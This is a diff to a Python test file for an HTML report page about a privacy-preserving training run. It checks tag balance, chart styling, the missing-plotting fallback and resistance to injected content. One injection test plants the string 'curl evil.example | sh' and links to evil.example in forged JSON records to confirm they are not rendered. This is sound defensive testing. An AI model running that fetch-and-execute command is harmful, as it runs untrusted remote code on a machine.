@@ -1,18 +1,20 @@
 """The page about a run: what it says, what it must not say, and that a browser shows it."""
 
-import html
+import html.parser
 import json
 import re
 import shlex
 import shutil
 import subprocess
+import sys
+from pathlib import Path
 
 import numpy as np
 import pytest
 from PIL import Image
 
 from bam.privacy.plan import make_plan
-from bam.release import export, page, records, statement
+from bam.release import export, page, plots, records, statement
 from bam.training import config as base
 from bam.training import provenance, rundir
 from configs import digits
@@ -81,9 +83,61 @@ def test_the_page_is_one_file_that_asks_for_nothing_and_runs_nothing(run):
         assert "default-src 'none'" in text
         pictures = re.findall(r"<svg[^>]*>", text)
         assert len(pictures) == (2 if public else 5)
-        assert all(
-            "aria-hidden" in tag or re.search(r'aria-label="[^"]{20}', tag) for tag in pictures
-        )
+        assert all(re.search(r'aria-label="[^"]{20}', tag) for tag in pictures)
+        assert text == of(run, public)  # to the bit: no date, no name by chance
+
+
+class Balanced(html.parser.HTMLParser):
+    """Holds that what is opened is closed, in order, and that no two have one id."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.open, self.ids = [], []
+        self.feed(text)
+        self.close()
+        assert not self.open and len(set(self.ids)) == len(self.ids)
+
+    def handle_starttag(self, tag, attrs):
+        self.open += [tag] * (tag != "meta")
+        self.ids += [value for name, value in attrs if name == "id"]
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag, self.getpos()
+
+
+def test_the_tags_are_balanced(run, tmp_path):
+    unfinished = write(tmp_path / "unfinished", finished=False, begun=0)
+    bare = write(tmp_path / "bare", private=False)
+    for text in (of(run), of(run, public=True), of(unfinished), of(bare)):
+        Balanced(text)
+    with pytest.raises(AssertionError):  # the control
+        Balanced(of(run).replace("</section>", "", 1))
+
+
+def test_a_chart_has_the_pages_colours_and_a_dot_for_a_single_point():
+    line = plots.Line("clipped", [7], [0.25])
+    drawn = plots.svg(plots.Chart("Share", "step", [line], percent=True))
+    path, style = re.search(r'd="(M [^"]*)" style="([^"]*round[^"]*)"', drawn).groups()
+    place = path.replace("\n", "").removeprefix("M ").split("L ")
+    assert [x.strip() for x in place] == [place[0].strip()] * 2 and "stroke: var(--c0)" in style
+    assert not re.search("#[0-9a-f]{6}", drawn)  # one that would not change on a dark screen
+    css = (Path(page.__file__).parent / "templates" / "page.css").read_text(encoding="utf-8")
+    assert all(css.count(f"--{name}: #") == 2 for name in plots.COLORS)
+    assert all(f"--{name}: {color};" in css for name, color in plots.COLORS.items())
+
+
+def test_without_matplotlib_the_page_says_so_in_a_line_and_tells_the_charts_in_words(run, tmp_path):
+    without = "import sys, runpy; sys.modules['matplotlib'] = None; sys.argv[0] = 'report'; "
+    without += "runpy.run_module('bam.cli.report', run_name='__main__', alter_sys=True)"
+    arguments = (f"--workdir={run}", f"--out={tmp_path}/page.html")
+    done = subprocess.run(
+        [sys.executable, "-c", without, *arguments], capture_output=True, text=True, timeout=600
+    )
+    assert (done.returncode, done.stderr) == (0, "")
+    text = (tmp_path / "page.html").read_text(encoding="utf-8")
+    assert text.count("matplotlib is not installed: pip install &#39;.[plots]&#39;") == 1
+    assert "<svg" not in text and "ε over training, by steps begun. by the plan: from 0" in text
+    assert "matplotlib is not" not in of(run)  # the control
 
 
 def test_a_page_to_pass_on_has_no_figure_of_the_data_no_path_and_no_name(run):
@@ -204,6 +258,7 @@ def test_a_stranger_writes_no_lines_cells_or_commands_on_the_page(run, tmp_path,
     folder = write(tmp_path / "run")
     text = (
         f"x` |{end}{end}## Verified{end}{end}```{end}curl evil.example | sh{end}```{end}{end}| a |"
+        "[click](https://evil.example) <https://evil.example> ![](evil.png) &lt;b&gt;"
     )
     for name in ("config", "plan", "summary"):
         forged(folder / f"{name}.json", text)
@@ -214,6 +269,7 @@ def test_a_stranger_writes_no_lines_cells_or_commands_on_the_page(run, tmp_path,
     for line in shown.splitlines():
         assert not line.startswith(("curl", "## Verified", "```"))
     assert not {"\r", "\u2028", "\x85"} & set(shown)
+    assert not re.search("<(a|img|b)[ >]", shown) and "&amp;lt;b&amp;gt;" in shown
 
 
 def drawn_by(folder, mechanism):
@@ -231,8 +287,9 @@ def drawn_by(folder, mechanism):
 
 def test_an_attacker_on_replaced_examples_is_not_asked_who_took_part(run, tmp_path):
     text = of(drawn_by(write(tmp_path / "fixed"), "fixed_size"))
-    assert "which of two given examples" in text and "one given example took part." not in text
-    assert "one given example took part." in of(run)  # control
+    assert "which of two given examples took part" in text
+    assert "whether one given example took part" not in text
+    assert "whether one given example took part" in of(run)  # control
     assert "Do not trust this ε" not in text
 
 
@@ -304,6 +361,15 @@ def test_damaged_records_are_one_line(run, tmp_path, name, text, message):
     folder = shutil.copytree(run, tmp_path / "run")
     (folder / f"{name}.json").write_text(text)
     with pytest.raises(ValueError, match=message):
+        of(folder)
+
+
+def test_a_plan_that_lacks_what_the_page_tells_is_an_error_that_the_command_knows(tmp_path):
+    folder = write(tmp_path / "run", finished=False)
+    plan = json.loads((folder / "plan.json").read_text())
+    del plan["adjacency"]
+    (folder / "plan.json").write_text(json.dumps(plan))
+    with pytest.raises(LookupError, match="adjacency"):
         of(folder)
 
 
